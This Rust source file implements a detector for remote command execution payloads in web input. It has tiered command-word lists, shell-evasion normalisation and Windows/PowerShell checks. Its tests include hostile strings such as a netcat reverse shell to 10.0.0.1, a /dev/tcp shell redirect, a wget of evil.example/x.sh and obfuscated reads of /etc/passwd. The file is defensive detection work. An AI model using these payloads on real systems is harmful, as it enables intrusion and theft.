//! Remote command execution (the class of CRS rule file 932): a known Unix or Windows command
//! in a position where a shell would run it.
//!
//! A value is normalised the way a shell would read it — lower case, quotes, backslashes and
//! carets removed (`c'a't`, `c\at`, `c^at`), `${IFS}`/`$IFS$9` read as spaces, empty or
//! one-letter variables removed (`c$@at`, `cat$u`, `${a}`) — and then a command word is
//! looked for:
//!
//! * after a separator (`;`, `|`, `&`, a backtick, a newline) or inside a substitution
//!   (`$(…)`, `<(…)`, `>(…)`) or a brace expansion (`{cat,/etc/passwd}`);
//! * at the start of the value, only when an argument follows that looks like one
//!   (an option `-x`, a path, a host name, a redirection);
//! * invoked by path (`/bin/cat`, `/usr/bin/python3`) or through a glob (`/???/c?t`,
//!   `/bin/ca?`, `/et*/passwd`).
//!
//! Command words come in three tiers (the knowledge is that of CRS's `unix-shell.data` and
//! `windows-powershell-commands.data`, Apache-2.0; the lists and logic here are this crate's):
//! unambiguous tools (`whoami`, `wget`, `nc`, `certutil`, …) match after a separator whatever
//! follows; short utilities (`cat`, `ls`, `id`, …) need the end of the value, another separator
//! or an argument-like token after them; English words that are also commands (`time`, `find`,
//! `set`, `more`, …) need an argument-like token. So `a; b`, `cat food`, `Tom & Jerry` and
//! `Hello; set the table` pass, `;cat /etc/passwd`, `|id` and `&& set -o history` do not.
//!
//! Windows forms: `cmd /c`, `powershell -e…`, PowerShell cmdlets (`Invoke-Expression`, `iwr`,
//! `iex`), `for %x in (…) do …` and `if exist|defined|errorlevel …` batch syntax.

use std::collections::HashMap;
use std::sync::LazyLock;

use crate::needles::Needles;

/// Unambiguous attack tools: one after a separator is enough.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "python",
    "perl",
    "php",
    "ruby",
    "lua",
    "nodejs",
    "pwsh",
    "powershell",
    "cmd",
    "telnet",
    "tftp",
    "nmap",
    "nslookup",
    "ifconfig",
    "ipconfig",
    "netstat",
    "chmod",
    "chown",
    "chgrp",
    "base64",
    "xxd",
    "passwd",
    "useradd",
    "adduser",
    "usermod",
    "crontab",
    "sudo",
    "gcc",
    "nohup",
    "setsid",
    "strace",
    "certutil",
    "bitsadmin",
    "mshta",
    "regedit",
    "rundll32",
    "regsvr32",
    "wmic",
    "schtasks",
    "cscript",
    "wscript",
    "msiexec",
    "netsh",
    "bcdedit",
    "bcdboot",
    "vssadmin",
    "wevtutil",
    "nltest",
    "systeminfo",
    "tasklist",
    "taskkill",
    "printenv",
    "iptables",
    "gawk",
    "mkfifo",
    "mknod",
    "openssl",
    "gdb",
    "pkill",
    "killall",
    "getent",
    "lsof",
    "hexdump",
    "sleep",
    "ping",
    "hostname",
    "xterm",
    "telnetd",
    "iwr",
    "iex",
    "iwmi",
    "wmiexec",
    "systemctl",
    "journalctl",
    "dmesg",
    "insmod",
    "modprobe",
    "shutdown",
    "reboot",
    "uptime",
    "tcpdump",
    "sftp",
    "rsync",
    "scp",
    "ssh",
    "pip",
    "pip3",
    "awk",
    "xargs",
    "tac",
    "rev",
    "grep",
    "egrep",
    "fgrep",
    "gunzip",
    "bunzip2",
    "unzip",
    "chattr",
    "lsattr",
    "cut",
    "sed",
];

/// Short utilities: after a separator they need the end of the value, another separator or
/// an argument-like token.
const SHORT: &[&str] = &[
    "cat",
    "ls",
    "id",
    "ps",
    "env",
    "pwd",
    "rm",
    "cp",
    "mv",
    "echo",
    "printf",
    "dir",
    "del",
    "net",
    "reg",
    "tar",
    "zip",
    "gzip",
    "nl",
    "od",
    "ln",
    "wc",
    "dd",
    "du",
    "df",
    "su",
    "cd",
    "who",
    "w",
    "ver",
    "vi",
    "vim",
    "nano",
    "ed",
    "ex",
    "less",
    "more",
    "head",
    "tail",
    "sort",
    "uniq",
    "diff",
    "cmp",
    "touch",
    "mkdir",
    "rmdir",
    "chroot",
    "mount",
    "umount",
    "kill",
    "exec",
    "eval",
    "export",
    "unset",
    "alias",
    "source",
    "whereis",
    "locate",
    "strings",
    "column",
    "fold",
    "expand",
    "tr",
    "nproc",
    "arch",
    "lsb_release",
    "top",
    "htop",
    "free",
    "last",
    "lastlog",
    "history",
];

/// English words that are also commands: they need an argument-like token after them.
const ENGLISH: &[&str] = &[
    "at", "time", "set", "find", "date", "test", "make", "file", "type", "wait", "read", "let",
    "watch", "batch", "copy", "stat", "which", "trap", "service", "init", "halt", "cal", "timeout",
    "start", "call", "move", "print", "open", "node", "apt", "yum", "dnf", "npm", "gem", "docker",
    "kubectl", "git", "java", "jobs", "fg", "bg", "go",
];

/// PowerShell cmdlets and idioms that mean code execution wherever they appear.
const POWERSHELL: &[&str] = &[
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-command",
    "invoke-wmimethod",
    "invoke-item",
    "invoke-shellcode",
    "invoke-mimikatz",
    "start-process",
    "new-object net.webclient",
    "new-object system.net.webclient",
    ".downloadstring(",
    ".downloadfile(",
    "set-executionpolicy",
    "add-mppreference",
    "get-wmiobject",
    "-encodedcommand",
    "-executionpolicy bypass",
];

/// Directories from which a command invoked by path is reported.
const BIN_DIRS: &[&str] = &[
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "/usr/local/sbin/",
];

/// Directories whose appearance with a glob (`/et*/`, `/bin/ca?`) is an evasion, not a name.
const GLOB_DIRS: &[&str] = &[
    "bin", "sbin", "usr", "etc", "dev", "proc", "tmp", "var", "home", "root",
];

/// Every command word with its tier, for one hash lookup per candidate word.
static TIERS: LazyLock<HashMap<&'static [u8], Tier>> = LazyLock::new(|| {
    let mut map = HashMap::new();
    // Inserted weakest first, so a word listed twice keeps its strongest tier.
    for (list, tier) in [
        (ENGLISH, Tier::English),
        (SHORT, Tier::Short),
        (STRONG, Tier::Strong),
    ] {
        for word in list {
            map.insert(word.as_bytes(), tier);
        }
    }
    map
});

#[derive(Clone, Copy, PartialEq, Eq)]
enum Tier {
    Strong,
    Short,
    English,
}

static POWERSHELL_SET: Needles = Needles::new(POWERSHELL);
static MARKERS: Needles = Needles::new(&["/dev/tcp/", "/dev/udp/", "<!--#exec"]);

/// Checks one decoded value.
pub(crate) fn check(value: &[u8]) -> bool {
    if value.len() < 2 {
        return false;
    }
    // Without a separator, a substitution, a path or a space, only a cmdlet name can match
    // (every other form needs one of them): most ids, tokens and single words stop here.
    let structural = value.iter().any(|&b| {
        matches!(
            b,
            b';' | b'|'
                | b'&'
                | b'`'
                | b'$'
                | b'\n'
                | b'\r'
                | b'{'
                | b'/'
                | b'('
                | b'<'
                | b'>'
                | b' '
                | b'\t'
        )
    });
    if !structural {
        return POWERSHELL_SET.any_in(value, false);
    }
    let norm = normalize(value);
    let s = norm.as_slice();
    POWERSHELL_SET.any_in(s, false)
        || MARKERS.any_in(s, false)
        || batch_syntax(s)
        || windows_shell(s)
        || commands(s)
        || brace_expansion(s)
        || globbed_path(s)
}

/// Lower case; quotes, backslashes and carets removed; `${IFS}`, `$IFS$9`, `$IFS` read as a
/// space; one-character and brace-wrapped short variables removed.
fn normalize(value: &[u8]) -> Vec<u8> {
    let lower: Vec<u8> = value
        .iter()
        .filter(|&&b| !matches!(b, b'\'' | b'"' | b'\\' | b'^'))
        .map(u8::to_ascii_lowercase)
        .collect();
    // Only `$` forms are rewritten below: most values (prose among them) have none.
    if memchr::memchr(b'$', &lower).is_none() {
        return lower;
    }
    let mut out = Vec::with_capacity(lower.len());
    let mut i = 0;
    while i < lower.len() {
        let rest = &lower[i..];
        if rest[0] == b'$' {
            if let Some(n) = [&b"${ifs}"[..], b"$ifs$9", b"$ifs"]
                .iter()
                .find(|p| rest.starts_with(p))
                .map(|p| p.len())
            {
                out.push(b' ');
                i += n;
                continue;
            }
            // `${a}`, `${kk}`: a short variable in braces, empty in an attacker's shell.
            if rest.get(1) == Some(&b'{')
                && let Some(close) = rest.iter().take(8).position(|&b| b == b'}')
                && close > 2
                && rest[2..close].iter().all(u8::is_ascii_alphanumeric)
            {
                i += close + 1;
                continue;
            }
            match rest.get(1) {
                Some(b'@' | b'*' | b'?' | b'!' | b'#' | b'_' | b'0'..=b'9') => {
                    i += 2;
                    continue;
                }
                Some(c)
                    if c.is_ascii_lowercase()
                        && !rest.get(2).is_some_and(|b| b.is_ascii_alphanumeric()) =>
                {
                    i += 2;
                    continue;
                }
                _ => {}
            }
        }
        out.push(rest[0]);
        i += 1;
    }
    out
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    crate::parse::contains(hay, needle)
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.')
}

/// The tier of a command word, ignoring a version suffix (`python3.10`, `gcc7.4`, `php8`) and
/// a Windows `.exe`.
fn tier(word: &[u8]) -> Option<Tier> {
    let word = word.strip_suffix(b".exe").unwrap_or(word);
    let lookup = |w: &[u8]| TIERS.get(w).copied();
    lookup(word).or_else(|| {
        let base = word
            .iter()
            .position(|b| b.is_ascii_digit())
            .map_or(word, |p| &word[..p]);
        // Only the interpreters and compilers carry versions.
        (base.len() < word.len()
            && matches!(
                base,
                b"python" | b"perl" | b"php" | b"ruby" | b"gcc" | b"lua"
            ))
        .then_some(Tier::Strong)
    })
}

/// The command word at `i` (after an optional bin-directory path), its tier and where it ends.
fn word_at(s: &[u8], i: usize) -> Option<(Tier, usize, bool)> {
    let mut start = i;
    let mut by_path = false;
    if s.get(i) == Some(&b'/') {
        let dir = BIN_DIRS.iter().find(|d| s[i..].starts_with(d.as_bytes()))?;
        start = i + dir.len();
        by_path = true;
    }
    let len = s[start..].iter().take_while(|&&b| is_word(b)).count();
    if len == 0 || len > 32 {
        return None;
    }
    let mut word = &s[start..start + len];
    // A trailing dot is punctuation, not part of the name.
    while let Some(w) = word.strip_suffix(b".") {
        word = w;
    }
    let t = tier(word)?;
    Some((t, start + len, by_path))
}

/// Is the token after position `end` argument-like for a command? Returns (argument-like,
/// separator-or-end).
fn following(s: &[u8], end: usize) -> (bool, bool) {
    let rest = &s[end..];
    let trimmed_len = rest
        .iter()
        .take_while(|&&b| matches!(b, b' ' | b'\t' | b','))
        .count();
    let next = &rest[trimmed_len..];
    let Some(&first) = next.first() else {
        return (false, true);
    };
    if matches!(first, b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b')') {
        return (false, true);
    }
    // `cat</etc/passwd` needs no space; `curl/8.5.0` (a User-Agent) is a name, not a call.
    if trimmed_len == 0 && !matches!(first, b'<' | b'>') {
        return (false, false);
    }
    let token_len = next
        .iter()
        .position(|&b| matches!(b, b' ' | b'\t' | b';' | b'|' | b'&'))
        .unwrap_or(next.len());
    let token = &next[..token_len];
    let argish = match first {
        b'-' => token
            .get(1)
            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'-'),
        b'/' | b'~' | b'$' | b'<' | b'>' | b'*' | b'{' => true,
        b'.' => token.get(1).is_some_and(|&b| b == b'/' || b == b'.'),
        _ => {
            token.contains(&b'/')
                || (token.contains(&b'.')
                    && token.iter().any(u8::is_ascii_alphabetic)
                    && !token.ends_with(b"."))
                || word_at(next, 0).is_some_and(|(t, e, _)| t != Tier::English && e == token_len)
        }
    };
    (argish, false)
}

/// Commands after separators, in substitutions, invoked by path, or at the start of the value
/// with an argument.
fn commands(s: &[u8]) -> bool {
    let mut i = 0;
    while i < s.len() {
        let (pos, strength) = match s[i] {
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => (i + 1, Position::Separator),
            b'$' | b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (i + 2, Position::Substitution),
            b'/' if i == 0 || !is_word(s[i - 1]) && s[i - 1] != b'/' && s[i - 1] != b':' => {
                (i, Position::Path)
            }
            _ if i == 0 => (0, Position::Start),
            _ => {
                i += 1;
                continue;
            }
        };
        let at = pos
            + s[pos..]
                .iter()
                .take_while(|&&b| matches!(b, b' ' | b'\t' | b'(' | b'{' | b'@'))
                .count();
        if let Some((t, end, by_path)) = word_at(s, at) {
            let (argish, sep_or_end) = following(s, end);
            let hit = match strength {
                Position::Substitution => true,
                Position::Path => by_path && (t != Tier::English || argish || sep_or_end),
                Position::Separator if by_path => true,
                Position::Separator => match t {
                    Tier::Strong => argish || sep_or_end || !end_is_word(s, end),
                    Tier::Short => argish || sep_or_end,
                    Tier::English => argish,
                },
                Position::Start => by_path || argish && t != Tier::English,
            };
            if hit {
                return true;
            }
        }
        i += 1;
    }
    false
}

/// After a strong command, anything but more letters (handled by the word split) counts.
fn end_is_word(s: &[u8], end: usize) -> bool {
    s.get(end).is_some_and(|&b| is_word(b))
}

#[derive(Clone, Copy)]
enum Position {
    Start,
    Separator,
    Substitution,
    Path,
}

/// `{cat,/etc/passwd}`, `{,ifconfig}`: a brace expansion whose first word is a command.
fn brace_expansion(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s[from..].iter().position(|&b| b == b'{') {
        let start = from + p + 1;
        let at = start + usize::from(s.get(start) == Some(&b','));
        if let Some((_, end, _)) = word_at(s, at)
            && matches!(s.get(end), Some(b',' | b'}'))
            && (s.get(end) == Some(&b',') || at > start)
        {
            return true;
        }
        from = start;
    }
    false
}

/// `/???/c?t`, `/bin/ca?`, `/et*/passwd`: wildcards in a path that starts at a system
/// directory or is made of wildcards.
fn globbed_path(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s[from..].iter().position(|&b| b == b'/') {
        let start = from + p;
        from = start + 1;
        if start > 0 && (is_word(s[start - 1]) || matches!(s[start - 1], b'/' | b':')) {
            continue;
        }
        let len = s[start..]
            .iter()
            .take_while(|&&b| is_word(b) || matches!(b, b'/' | b'?' | b'*'))
            .count();
        let path = &s[start..start + len];
        // The next candidate starts after this path: each byte is scanned once.
        from = start + len.max(1);
        if !path.iter().any(|&b| b == b'?' || b == b'*') {
            continue;
        }
        let mut segments = path.split(|&b| b == b'/').filter(|x| !x.is_empty());
        let (Some(first), Some(second)) = (segments.next(), segments.next()) else {
            continue;
        };
        let wild = |x: &[u8]| x.iter().any(|&b| b == b'?' || b == b'*');
        let first_is_dir = GLOB_DIRS.iter().any(|d| d.as_bytes() == first)
            || (wild(first) && first.len() <= 8 && dir_glob_matches(first));
        if first_is_dir && (wild(first) || wild(second)) && second.iter().any(|&b| b != b'=') {
            return true;
        }
    }
    false
}

/// Could the wildcard pattern name one of [`GLOB_DIRS`]?
fn dir_glob_matches(pattern: &[u8]) -> bool {
    GLOB_DIRS.iter().any(|d| glob_match(pattern, d.as_bytes()))
}

fn glob_match(p: &[u8], s: &[u8]) -> bool {
    match (p.first(), s.first()) {
        (None, None) => true,
        (Some(b'*'), _) => glob_match(&p[1..], s) || (!s.is_empty() && glob_match(p, &s[1..])),
        (Some(b'?'), Some(_)) => glob_match(&p[1..], &s[1..]),
        (Some(a), Some(b)) if a == b => glob_match(&p[1..], &s[1..]),
        _ => false,
    }
}

/// `cmd /c …`, `cmd.exe /k …`, `powershell -e…`, `powershell c:\…`.
fn windows_shell(s: &[u8]) -> bool {
    for (name, needs) in [(&b"cmd"[..], 0u8), (b"powershell", 1), (b"pwsh", 1)] {
        let mut from = 0;
        while let Some(p) = crate::parse::find(&s[from..], name) {
            let start = from + p;
            from = start + 1;
            if start > 0 && s[start - 1].is_ascii_alphanumeric() {
                continue;
            }
            let mut end = start + name.len();
            if s[end..].starts_with(b".exe") {
                end += 4;
            }
            let rest = &s[end..];
            let spaces = rest
                .iter()
                .take_while(|&&b| b == b' ' || b == b'\t')
                .count();
            let arg = &rest[spaces..];
            let hit = if needs == 0 {
                matches!(arg, [b'/', b'c' | b'k' | b'r', ..])
                    && arg.get(2).is_none_or(|&b| !b.is_ascii_alphanumeric())
            } else {
                spaces > 0
                    && (arg.first() == Some(&b'-')
                        && arg.get(1).is_some_and(u8::is_ascii_alphabetic)
                        || matches!(arg, [b'a'..=b'z', b':', ..]))
            };
            if hit {
                return true;
            }
        }
    }
    false
}

/// Batch syntax: `for [/d|/r|/l|/f …] %x in (…) do …` and `if [/i] [not] exist|defined|
/// errorlevel …` or `if … == …`.
fn batch_syntax(s: &[u8]) -> bool {
    if !contains(s, b"for") && !contains(s, b"if") {
        return false;
    }
    let words: Vec<&[u8]> = s
        .split(|&b| b == b' ' || b == b'\t' || b == b'\n')
        .filter(|w| !w.is_empty())
        .collect();
    for (i, w) in words.iter().enumerate() {
        let w = w.strip_prefix(b"&").unwrap_or(w);
        let w = w.strip_prefix(b"|").unwrap_or(w);
        if w == b"for" {
            let rest = &words[i + 1..];
            let var = rest
                .iter()
                .take(8)
                .position(|t| t.starts_with(b"%") && t.len() >= 2 && t.len() <= 4);
            if let Some(v) = var
                && rest.get(v + 1).is_some_and(|t| *t == b"in")
                && rest.get(v + 2).is_some_and(|t| t.starts_with(b"("))
                && rest[v + 2..]
                    .iter()
                    .take(64)
                    .any(|t| *t == b"do" || t.ends_with(b")do") || t.starts_with(b"do("))
            {
                return true;
            }
        }
        if w == b"if" {
            let mut j = i + 1;
            while words.get(j).is_some_and(|t| *t == b"/i" || *t == b"not") {
                j += 1;
            }
            let Some(next) = words.get(j) else { continue };
            if matches!(
                *next,
                b"exist" | b"defined" | b"errorlevel" | b"cmdextversion"
            ) {
                return true;
            }
            let window = &words[j..words.len().min(j + 4)];
            let compares = window.iter().any(|t| {
                contains(t, b"==")
                    || matches!(*t, b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq")
            });
            if compares
                && window
                    .iter()
                    .any(|t| t.contains(&b'%') || t.contains(&b'='))
            {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn separators_and_commands() {
        for v in [
            ";cat /etc/passwd",
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x || whoami",
            "a && uname -a",
            "`id`",
            "$(whoami)",
            "foo\nwget http://evil.example/x.sh",
            "host;ls -la",
            "q=1;ps",
            "1 & dir",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "&& set -o history",
            ";python3.10 -c 'import os'",
        ] {
            assert!(check(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn evasions() {
        for v in [
            ";c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            "cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            "host;c$@at /et$@c/pas$@swd",
            "x;cat$u /etc$u/passwd",
            "/???/c?t /???/p??s??",
            "x;/bin/ca? /et*/passwd",
            "cat /et*/*wd",
            "{cat,/etc/passwd}",
            "{,ifconfig}",
            "x;ca^t /tmp/f",
            "cmd /c whoami",
            "CMD.EXE /k dir",
            "powershell -enc SQBFAFgA",
            "powershell.exe -nop -w hidden",
            "Invoke-WebRequest http://example.com/file.ps1",
            "for /f %i in ('whoami') do echo %i",
            "IF EXIST C:\\boot.ini echo yes",
            "<(cat /etc/passwd)",
            "bash -c 'id'",
            "/usr/bin/perl -e 'print 1'",
            "x=1 | /bin/bash",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242",
        ] {
            assert!(check(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn benign_lookalikes() {
        for v in [
            "cat food",
            "a; b",
            "select a plan",
            "Tom & Jerry's Pizza",
            "Hello; set the table",
            "I'd like to upgrade, but it's too expensive",
            "Use ls -l in a terminal to list files",
            "Search & find",
            "Rock 'n' roll; time is money",
            "See https://example.com/docs/getting-started?lang=en#install",
            "C:\\Users\\jane\\Documents\\report.docx",
            "path/to/file.txt",
            "/search?q=1",
            "What is /faq?",
            "Runtime error",
            "python tutorial",
            "if you want, ping me",
            "for you in our store",
            "Hello ${name}, welcome back",
            "$(document).ready(fn)",
            "cats & dogs",
            "R&D; more info later",
            "/api/v1/users/42",
            "price: $19.99 (was $24.99)",
            "The cmd key on a Mac",
            "PowerShell is great",
            "curl/8.5.0",
            "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        ] {
            assert!(!check(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn long_pathological_values_are_fast() {
        let start = std::time::Instant::now();
        for unit in [
            &b"/?"[..],
            b"/*",
            b"for %a in ( ",
            b"$(",
            b";cat ",
            b"{,",
            b"/bin/",
        ] {
            let value: Vec<u8> = unit.iter().copied().cycle().take(64 * 1024).collect();
            let _ = check(&value);
        }
        let stars: Vec<u8> = b"/"
            .iter()
            .chain([b'*'; 5000].iter())
            .chain(b"/x")
            .copied()
            .collect();
        let _ = check(&stars);
        assert!(start.elapsed() < std::time::Duration::from_secs(5));
    }

    #[test]
    fn glob_matching() {
        assert!(glob_match(b"???", b"bin"));
        assert!(glob_match(b"e*", b"etc"));
        assert!(!glob_match(b"?", b"bin"));
    }
}
